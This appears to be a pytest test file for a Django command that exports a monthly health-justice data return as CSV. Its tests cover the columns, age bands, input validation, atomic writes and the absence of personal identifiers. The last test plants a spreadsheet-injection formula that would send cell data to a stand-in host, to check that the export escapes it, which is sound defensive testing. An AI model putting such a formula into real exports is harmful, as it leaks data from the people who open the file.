import csv
import datetime
import os
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.management import CommandError, call_command

from healthjustice.assessments.models import Report
from healthjustice.audit.models import Action, AuditEvent
from healthjustice.reporting import data_return
from healthjustice.reporting.data_return import COLUMNS, age_group
from healthjustice.reporting.periods import Month
from tests.reporting.known_data import build_known

pytestmark = pytest.mark.django_db

LONDON = ZoneInfo("Europe/London")

EXPECTED_COLUMNS = [
    "episode_ref",
    "region",
    "team",
    "site",
    "setting",
    "referral_source",
    "referred_at",
    "identified_at",
    "screened_at",
    "assessed_at",
    "intervention_at",
    "closed_at",
    "closure_reason",
    "age_group",
    "sex",
    "ethnic_category_code",
    "ethnic_code_list",
    "vulnerabilities",
    "reports_issued_count",
    "reports_issued_types",
    "onward_referrals_count",
    "onward_referral_service_types",
    "onward_referrals_supported",
    "onward_referrals_attended",
    "onward_referrals_not_attended",
    "onward_referral_outcomes",
]


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def _local(at: datetime.datetime, hours: int = 0) -> str:
    return (at + datetime.timedelta(hours=hours)).astimezone(LONDON).isoformat()


@pytest.mark.parametrize(
    ("years", "days", "group"),
    [
        (18, 1, "under 18"),
        (18, 0, "18-24"),
        (24, -1, "18-24"),
        (25, 0, "25-34"),
        (44, 0, "35-44"),
        (54, 0, "45-54"),
        (64, 0, "55-64"),
        (65, 0, "65+"),
    ],
)
def test_age_group_boundaries(years, days, group):
    on = datetime.date(2026, 3, 15)
    born = on.replace(year=on.year - years) + datetime.timedelta(days=days)
    assert age_group(born, on) == group


def test_age_group_without_a_date_of_birth_is_not_known():
    assert age_group(None, datetime.date(2026, 3, 15)) == "not known"


def test_export_ld_return_writes_the_exact_columns_and_values(tmp_path):
    known = build_known()
    out = tmp_path / "return.csv"
    call_command("export_ld_return", month=known.month.key, region="Staffordshire", out=str(out))
    columns, rows = _read(out)
    assert columns == EXPECTED_COLUMNS == list(COLUMNS)
    assert len(rows) == 18, "16 in team A and 2 in team B; not Cheshire, the MHTR team or M-1"
    assert {r["team"] for r in rows} == {"Stoke custody L&D", "Stafford court L&D"}
    referred = [r["referred_at"] for r in rows]
    assert referred == sorted(referred)

    a0 = known.episodes_a[0]
    at = a0.referred_at
    row = next(r for r in rows if r["episode_ref"] == str(a0.public_id))
    assert row == {
        "episode_ref": str(a0.public_id),
        "region": "Staffordshire",
        "team": "Stoke custody L&D",
        "site": "",
        "setting": "police_custody",
        "referral_source": "custody_sergeant",
        "referred_at": _local(at),
        "identified_at": _local(at),
        "screened_at": _local(at, 1),
        "assessed_at": _local(at, 10),
        "intervention_at": _local(at, 110),
        "closed_at": _local(at, 200),
        "closure_reason": "declined",
        "age_group": "18-24",
        "sex": "2",
        "ethnic_category_code": "A",
        "ethnic_code_list": "2001",
        "vulnerabilities": "mental_health;drugs;alcohol;housing",
        "reports_issued_count": "0",
        "reports_issued_types": "",
        "onward_referrals_count": "2",
        "onward_referral_service_types": "mental_health;housing",
        "onward_referrals_supported": "1",
        "onward_referrals_attended": "2",
        "onward_referrals_not_attended": "0",
        "onward_referral_outcomes": "engaged;engaged",
    }
    by_ref = {r["episode_ref"]: r for r in rows}
    a1, a2, a3, a12 = (known.episodes_a[i] for i in (1, 2, 3, 12))
    assert by_ref[str(a1.public_id)]["age_group"] == "under 18"
    assert by_ref[str(a2.public_id)]["age_group"] == "not known"
    assert by_ref[str(a2.public_id)]["sex"] == ""
    assert by_ref[str(a2.public_id)]["onward_referrals_not_attended"] == "1"
    assert by_ref[str(a3.public_id)]["age_group"] == "65+"
    quiet = by_ref[str(a12.public_id)]
    assert quiet["screened_at"] == quiet["closed_at"] == quiet["vulnerabilities"] == ""
    assert quiet["onward_referrals_count"] == "0"

    assert AuditEvent.objects.filter(action=Action.EXPORT, object_type="data_return").exists()


def test_export_ld_return_holds_no_names_nhs_numbers_or_birth_dates(tmp_path):
    known = build_known()
    out = tmp_path / "return.csv"
    call_command("export_ld_return", month=known.month.key, region="staffordshire", out=str(out))
    text = out.read_text()
    for episode in known.episodes_a:
        person = episode.person
        assert person.family_name not in text
        assert person.nhs_number not in text
        if person.date_of_birth:
            assert person.date_of_birth.isoformat() not in text
        assert str(person.public_id) not in text


@pytest.mark.parametrize("month", ["2026-13", "03-2026", "2026-3", "March", ""])
def test_export_ld_return_bad_month_is_refused(tmp_path, month):
    build_known()
    out = tmp_path / "return.csv"
    with pytest.raises(CommandError, match=r"YYYY-MM|01 to 12"):
        call_command("export_ld_return", month=month, region="Staffordshire", out=str(out))
    assert not out.exists()


def test_export_ld_return_unknown_region_is_refused(tmp_path):
    build_known()
    out = tmp_path / "return.csv"
    with pytest.raises(CommandError, match="There is no region called 'Atlantis'"):
        call_command("export_ld_return", month="2026-03", region="Atlantis", out=str(out))
    assert not out.exists()


def test_export_ld_return_to_a_missing_folder_is_refused(tmp_path):
    build_known()
    out = tmp_path / "no-such-folder" / "return.csv"
    with pytest.raises(CommandError, match="does not exist"):
        call_command("export_ld_return", month="2026-03", region="Staffordshire", out=str(out))
    assert not out.parent.exists()


def test_export_ld_return_to_a_folder_name_is_refused(tmp_path):
    build_known()
    with pytest.raises(CommandError, match="is a folder"):
        call_command("export_ld_return", month="2026-03", region="Staffordshire", out=str(tmp_path))


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to any folder")
def test_export_ld_return_to_a_read_only_folder_is_refused(tmp_path):
    build_known()
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(CommandError, match="cannot be written"):
            call_command(
                "export_ld_return",
                month="2026-03",
                region="Staffordshire",
                out=str(folder / "return.csv"),
            )
    finally:
        folder.chmod(0o700)


def test_export_ld_return_failing_half_way_leaves_no_partial_file(tmp_path, monkeypatch):
    known = build_known()
    out = tmp_path / "return.csv"
    out.write_text("last month's good file\n")
    real_row = data_return._row
    calls = {"n": 0}

    def failing_row(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] > 3:
            raise RuntimeError("database went away")
        return real_row(*args, **kwargs)

    monkeypatch.setattr(data_return, "_row", failing_row)
    with pytest.raises(RuntimeError):
        call_command(
            "export_ld_return", month=known.month.key, region="Staffordshire", out=str(out)
        )
    assert out.read_text() == "last month's good file\n", "the old file is untouched"
    assert [p.name for p in tmp_path.iterdir()] == ["return.csv"], "no temporary file left"


def test_export_ld_return_for_a_month_with_no_episodes_writes_the_header_only(tmp_path):
    build_known()
    out = tmp_path / "empty.csv"
    call_command("export_ld_return", month="2001-01", region="Staffordshire", out=str(out))
    columns, rows = _read(out)
    assert columns == EXPECTED_COLUMNS
    assert rows == []


def test_month_parse_gives_plain_messages():
    assert Month.parse("2026-03") == Month(2026, 3)
    with pytest.raises(ValueError, match="YYYY-MM"):
        Month.parse("2026/03")
    with pytest.raises(ValueError, match="01 to 12"):
        Month.parse("2026-00")


def _issue(episode, author, report_type, **extra):
    return Report.objects.create(
        episode=episode,
        report_type=report_type,
        recipient="court",
        lawful_basis="safeguarding",
        justification="Risk to a child",
        content={"text": "synthetic"},
        content_sha256="0" * 64,
        author=author,
        **extra,
    )


def test_export_ld_return_counts_reports_issued_and_corrections_once(tmp_path):
    known = build_known()
    a0, a1 = known.episodes_a[0], known.episodes_a[1]
    first = _issue(a0, known.leader_a, "court_bail_remand")
    _issue(a0, known.leader_a, "court_bail_remand", supersedes=first, correction_reason="Typo")
    _issue(a0, known.leader_a, "custody_advice")
    out = tmp_path / "return.csv"
    call_command("export_ld_return", month=known.month.key, region="Staffordshire", out=str(out))
    rows = {r["episode_ref"]: r for r in _read(out)[1]}
    assert rows[str(a0.public_id)]["reports_issued_count"] == "2"
    assert rows[str(a0.public_id)]["reports_issued_types"] == "court_bail_remand;custody_advice"
    assert rows[str(a1.public_id)]["reports_issued_count"] == "0"
    assert rows[str(a1.public_id)]["reports_issued_types"] == ""


def test_export_ld_return_cannot_carry_a_spreadsheet_formula(tmp_path):
    known = build_known()
    hostile = '=HYPERLINK("https://example.invalid/?d="&A2,"Open")'
    known.team_a.name = hostile
    known.team_a.save()
    known.region.name = "@Staffordshire"
    known.region.save()
    out = tmp_path / "return.csv"
    call_command("export_ld_return", month=known.month.key, region="@Staffordshire", out=str(out))
    _, rows = _read(out)
    assert {r["team"] for r in rows} == {"'" + hostile, "Stafford court L&D"}
    assert {r["region"] for r in rows} == {"'@Staffordshire"}
    assert {r["onward_referrals_count"] for r in rows} <= {"0", "1", "2", "3"}
